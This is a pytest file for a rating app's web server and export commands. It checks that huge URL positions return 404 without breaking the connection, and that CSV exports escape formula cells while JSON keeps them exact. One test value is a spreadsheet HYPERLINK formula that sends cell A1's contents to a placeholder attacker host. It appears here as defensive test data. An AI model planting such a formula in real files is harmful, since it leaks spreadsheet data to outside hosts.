"""The rating app's edges (issue 15), against `herd rate-app serve` on 127.0.0.1: a position too big for SQLite is a
404 on a keep-alive connection that stays usable, and CSV exports neutralise formula cells while JSON stays exact."""

from __future__ import annotations

import csv
import http.client
import io
import json
import subprocess
import sys
from urllib.parse import urlencode, urlsplit

import pytest

from herd.rate.store import Study, csv_cell, csv_uncell
from tests.rate_study import csrf_of, make_study, running_server, write_answers

HUGE = "100000000000000000000"  # 1e20 > 2**63 - 1
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
COMMENTS = [FORMULA, "+1 great", "-2 bad", "@SUM(A1:A9)", "'=already quoted", "plain, with comma"]


@pytest.fixture
def served(tmp_path):
    answers = tmp_path / "answers.jsonl"
    write_answers(answers)
    created = make_study(tmp_path / "study", answers, per_item=2, raters=2)
    with running_server(tmp_path / "study") as base:
        yield {"base": base, "created": created, "folder": tmp_path / "study", "answers": answers}


class Browser:
    """One keep-alive HTTP/1.1 connection with a cookie jar of one cookie: a request that breaks the connection
    fails the next one instead of being hidden by a fresh connection."""

    def __init__(self, base: str) -> None:
        parts = urlsplit(base)
        self.origin = base
        self.con = http.client.HTTPConnection(parts.hostname, parts.port, timeout=30)
        self.cookie = ""

    def request(self, method: str, path: str, form: dict[str, str] | None = None) -> tuple[int, str]:
        headers = {"Cookie": self.cookie} if self.cookie else {}
        body = None
        if form is not None:
            body = urlencode(form)
            headers |= {"Content-Type": "application/x-www-form-urlencoded", "Origin": self.origin}
        self.con.request(method, path, body=body, headers=headers)
        response = self.con.getresponse()
        text = response.read().decode()
        assert response.getheader("connection", "").lower() != "close", (method, path, response.status)
        if response.getheader("set-cookie"):
            self.cookie = response.getheader("set-cookie", "").split(";", 1)[0]
        return response.status, text


def login(served: dict, name: str = "rater-01") -> Browser:
    b = Browser(served["base"])
    assert b.request("GET", f"/r/{served['created'].rater_tokens[name]}")[0] == 303
    return b


def test_huge_positions_are_not_found_and_the_connection_stays_usable(served):
    b = login(served)
    status, page = b.request("GET", "/rate/1")
    assert status == 200
    csrf = csrf_of(page)
    for huge in (HUGE, str(2**63), str(2**64 + 1)):
        assert b.request("GET", f"/rate/{huge}")[0] == 404
        assert b.request("POST", f"/rate/{huge}", {"csrf": csrf, "rating": "A", "comment": ""})[0] == 404
        assert b.request("GET", "/rate/1")[0] == 200  # the same connection, still good
    assert b.request("GET", f"/rate/{2**63 - 1}")[0] == 404  # the largest SQLite integer: simply not a position
    assert b.request("POST", "/rate/1", {"csrf": csrf, "rating": "B", "comment": ""})[0] == 303
    assert [r["rating"] for r in Study(served["folder"]).export_rows()] == ["B"]


def test_csv_exports_neutralise_formulas_and_json_stays_exact(served, tmp_path):
    b = login(served)
    for position, comment in enumerate(COMMENTS, start=1):
        status, page = b.request("GET", f"/rate/{position}")
        assert status == 200
        form = {"csrf": csrf_of(page), "rating": "A", "comment": comment}
        assert b.request("POST", f"/rate/{position}", form)[0] == 303
    admin = Browser(served["base"])
    assert admin.request("GET", f"/admin/login/{served['created'].admin_token}")[0] == 303
    status, text = admin.request("GET", "/admin/ratings.csv")
    assert status == 200
    by_web = sorted(row["comment"] for row in csv.DictReader(io.StringIO(text)))
    expected = sorted(["'" + FORMULA, "'+1 great", "'-2 bad", "'@SUM(A1:A9)", "''=already quoted",
                       "plain, with comma"])
    assert by_web == expected
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in csv.reader(io.StringIO(text)) for cell in row)
    status, text = admin.request("GET", "/admin/ratings.jsonl")
    assert sorted(json.loads(line)["comment"] for line in text.splitlines()) == sorted(COMMENTS)

    folder = str(served["folder"])
    herd = [sys.executable, "-m", "herd", "rate-app"]
    run = {"capture_output": True, "text": True, "timeout": 120}
    assert subprocess.run([*herd, "export", str(tmp_path / "x.csv"), "--study", folder], **run).returncode == 0
    assert sorted(r["comment"] for r in csv.DictReader((tmp_path / "x.csv").open())) == expected
    assert subprocess.run([*herd, "export", str(tmp_path / "x.jsonl"), "--study", folder], **run).returncode == 0
    assert sorted(json.loads(line)["comment"] for line in (tmp_path / "x.jsonl").open()) == sorted(COMMENTS)
    # importing herd's own CSV export gives back exactly what was rated
    copy = tmp_path / "copy"
    make_study(copy, served["answers"], per_item=2, raters=2)
    assert subprocess.run([*herd, "import", str(tmp_path / "x.csv"), "--study", str(copy)], **run).returncode == 0
    assert Study(copy).export_rows() == Study(served["folder"]).export_rows()


@pytest.mark.parametrize("value", ["=1+1", "+x", "-x", "@x", "\tx", "\rx", "'x", "''=x", "x", "", "a=b"])
def test_csv_cell_round_trips(value):
    assert csv_uncell(csv_cell(value)) == value
    assert not csv_cell(value).startswith(("=", "+", "-", "@", "\t", "\r"))
